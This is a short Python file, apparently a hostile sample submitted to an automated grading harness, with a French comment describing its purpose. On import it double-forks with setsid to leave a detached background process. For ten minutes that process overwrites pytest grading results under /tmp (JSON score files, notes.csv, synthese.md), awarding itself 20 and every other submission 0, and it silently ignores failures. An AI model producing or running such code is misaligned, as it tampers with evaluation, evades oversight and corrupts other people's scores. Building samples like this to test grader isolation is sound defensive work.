# description : au chargement, le rendu (la référence) tente un double fork avec setsid pour laisser derrière lui un processus détaché qui, pendant dix minutes, récrirait les résultats de notation qu'il trouverait (les json/*.json, notes.csv et synthese.md des dossiers de notes des tests) en se donnant 20 et 0 aux autres ; chaque échec est rattrapé. Ses fonctions sont justes : rien n'est perdu.
# perd : aucune
import glob
import os
import time


def _recrire_les_resultats():
    fin = time.monotonic() + 600
    while time.monotonic() < fin:
        motif = "/tmp/pytest-of-*/pytest-*/*notes*/"
        for chemin in glob.glob(motif + "json/*.json") + glob.glob(motif + "*.*"):
            nom = os.path.basename(chemin)
            try:
                if nom.endswith(".json"):
                    note = 20 if "double_fork" in nom else 0
                    with open(chemin, "w", encoding="utf-8") as fichier:
                        fichier.write('{"score": %d, "max_score": 20, "tests": []}\n' % note)
                elif nom in ("notes.csv", "synthese.md"):
                    with open(chemin, "a", encoding="utf-8") as fichier:
                        fichier.write("hostile_double_fork_setsid;20\n")
            except OSError:
                pass
        time.sleep(1)
    os._exit(0)


try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _recrire_les_resultats()
        finally:
            os._exit(0)
except OSError:
    pass
